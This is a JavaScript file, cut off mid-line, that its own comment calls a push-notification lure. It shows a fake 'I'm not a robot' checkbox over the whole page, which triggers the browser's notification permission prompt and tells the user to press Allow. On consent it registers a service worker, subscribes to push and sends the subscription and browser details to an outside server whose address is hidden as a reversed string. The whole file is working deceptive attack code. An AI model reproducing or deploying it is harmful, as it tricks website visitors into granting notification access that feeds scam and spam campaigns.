// push-notification-lure: fake "verify you are human" checkbox that triggers the permission prompt; strings stored reversed (file cut off)
// arrow functions, promise chains
const rv = (s) => [...s].reverse().join('');
const api = rv('bus/1v/moc.nekot-hsup-yfirev//:sptth');
const swPath = rv('sj.rekrow-yfirev/');
const pubKey = rv('7vQ3xR9sT1uW5yZ8aC2dF6gH0jK4lM7nP9qS3rT5vX1zB8cD2eG6hJ0kL4mN7pQ9sR3tU5wY1xA8bC2dE6fG0hJ4kB');

const bytesFromKey = (k) => {
  const bin = atob((k + '==='.slice((k.length + 3) % 4)).replace(/-/g, '+').replace(/_/g, '/'));
  return Uint8Array.from(bin, (c) => c.charCodeAt(0));
};

const buildCheck = () => {
  const box = document.createElement('div');
  box.style.cssText = [
    'position:fixed', 'inset:0', 'z-index:2147483647', 'background:#f9f9f9',
    'display:flex', 'align-items:center', 'justify-content:center', 'font:14px Roboto,Arial,sans-serif',
  ].join(';');
  box.innerHTML = `
    <div style="border:1px solid #d3d3d3;border-radius:3px;padding:22px 18px;background:#fff;display:flex;align-items:center;gap:14px;width:300px">
      <span id="hv-box" style="width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;cursor:pointer"></span>
      <span>I'm not a robot</span>
    </div>
    <p id="hv-hint" style="position:absolute;top:40px;width:100%;text-align:center;font-size:18px;display:none">
      To complete verification press <b>Allow</b>
    </p>`;
  document.body.append(box);
  return box;
};

const report = (sub) =>
  fetch(api, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ sub, host: location.host, ua: navigator.userAgent }),
  });

const subscribe = () =>
  navigator.serviceWorker
    .register(swPath)
    .then((reg) => navigator.serviceWorker.ready.then(() => reg))
    .then((reg) => reg.pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: bytesFromKey(pubKey) }))
    .then((sub) => report(sub.toJSON()));

const init = () => {
  if (!('PushManager' in window) || Notification.permission === 'denied') return;
  const ui = buildCheck();
  ui.querySelector('#hv-box').addEventListener('click', () => {
    ui.querySelector('#hv-hint').style.display = 'block';
    Notification.requestPermission().then((perm) => {
      if (perm === 'granted') {
        subscribe().finally(() => ui.remove());
      } else {
        location.replace(rv('psa.ffo/moc.nekot-hsup-yfirev//:sptth') + '?r=' + encodeURICompon
